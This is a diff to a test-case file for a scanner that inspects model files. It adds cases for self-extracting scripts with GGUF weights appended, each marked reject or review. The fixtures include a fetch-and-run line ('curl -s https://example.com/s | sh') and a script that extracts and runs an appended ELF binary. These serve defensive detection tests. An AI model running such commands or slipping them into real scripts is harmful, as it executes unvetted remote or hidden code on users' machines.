@@ -11,6 +11,7 @@ from typing import Literal
 from openvet.testing.case import Case
 from openvet.testing.forge_archive import ZipPart, forge_zip
 from openvet.testing.forge_native import elf_library, mach_o_library, pe_library
+from openvet.testing.forge_tensors import GgufTensor, gguf
 
 __all__ = ["CASES"]
 
@@ -29,6 +30,12 @@ def _llamafile() -> bytes:
     with zipfile.ZipFile(out, "a") as archive:
         archive.writestr(zipfile.ZipInfo(".args"), "-m\nmodel.gguf\n")
     return out.getvalue()
+
+
+def _unpacks(*lines: str, first: str = "#!/bin/sh") -> bytes:
+    """A script with weights behind its last line."""
+    script = "\n".join((first, "# self-extracting weights", *lines, 'tail -n +9 "$0" > model.gguf', "exit 0", ""))
+    return script.encode() + gguf([("general.architecture", "string", "llama")], [GgufTensor("t", (8,), size=32)])
 
 
 def _zip(**members: bytes) -> bytes:
@@ -124,6 +131,44 @@ CASES: tuple[Case, ...] = (
         {"custom_ops.so": _ELF, "README.md": b"# A model\n"},
         "review",
         "file/native-code",
+    ),
+    _case(
+        "self-extracting-download",
+        "a script with weights behind it that runs a download first",
+        _unpacks("curl -s https://example.com/s | sh"),
+        "reject",
+        "file/native-code",
+        "hub/shell-command",
+        file="model.run",
+        formats=("self-extracting", "shell"),
+    ),
+    _case(
+        "self-extracting-program",
+        "a script that starts a program which stands behind it",
+        b"#!/bin/bash\ntail -n +4 $0 > x\nchmod +x x && ./x; exit\n" + elf_library(["system"]),
+        "reject",
+        "file/native-code",
+        file="install",
+        formats=("self-extracting", "elf"),
+    ),
+    _case(
+        "self-extracting-as-weights",
+        "a script with weights behind it under the name of weights",
+        _unpacks(),
+        "reject",
+        "file/disguised-program",
+        "file/native-code",
+        file="model.bin",
+        formats=("self-extracting",),
+    ),
+    _case(
+        "self-extracting-weights",
+        "a script with weights behind it that only unpacks them",
+        _unpacks('echo "Unpacking..."'),
+        "review",
+        "file/native-code",
+        file="model.run",
+        formats=("self-extracting", "shell", "gguf"),
     ),
     *(
         _case(
